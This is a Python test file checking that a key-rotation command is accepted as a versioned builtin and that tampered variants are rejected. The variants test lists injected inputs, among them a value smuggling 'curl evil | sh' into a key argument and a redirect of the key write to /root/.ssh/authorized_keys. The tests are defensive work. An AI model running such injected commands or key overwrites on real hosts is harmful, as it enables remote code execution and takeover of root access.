"""The key-rotation builtin for real guests is one of duet's versioned templates, so a
user's history check tells it from an owner command; a variant that does anything else is
not (ledger/builtins.py, `rotate_key v1`)."""

from __future__ import annotations

import shlex
import subprocess
from pathlib import Path

from duet.cvm.lockdown import REMOTE_AUTHORIZED_KEYS, rotate_key_command
from duet.ledger.builtins import builtin_template

OLD = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOld0000000000000000000000000000000000000000"
NEW = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINew0000000000000000000000000000000000000000"


def _template(command: str) -> str | None:
    return builtin_template({"action": "rotate_key", "command": command}, user="duet", report_tool=None)


def test_rotation_commands_match_the_template() -> None:
    assert _template(rotate_key_command([OLD, NEW + " comment"])) == "rotate_key v1"
    assert _template(rotate_key_command([NEW])) == "rotate_key v1"


def test_variants_are_not_builtins() -> None:
    good = rotate_key_command([NEW])
    for bad in (
        good + " " + shlex.quote("ssh-ed25519 AAAA; curl evil | sh"),
        good.replace("umask 022", "umask 000"),
        good + "; touch /tmp/x",
        rotate_key_command([OLD, NEW]) + " " + shlex.quote(NEW),
        good.replace(REMOTE_AUTHORIZED_KEYS, "/root/.ssh/authorized_keys"),
    ):
        assert _template(bad) is None, bad
    assert builtin_template({"action": "snapshot", "command": good}, user="duet", report_tool=None) is None


def test_the_command_writes_exactly_the_keys(tmp_path: Path) -> None:
    """Run the script part (without sudo) on a scratch path: the file holds exactly the lines."""
    argv = shlex.split(rotate_key_command([OLD, NEW]))
    script = argv[argv.index("-c") + 1].replace(REMOTE_AUTHORIZED_KEYS, str(tmp_path / "akf"))
    keys = argv[argv.index("rotate_key") + 1:]
    subprocess.run(["sh", "-c", script, "rotate_key", *keys], check=True)
    assert (tmp_path / "akf").read_text() == f"{OLD}\n{NEW}\n"
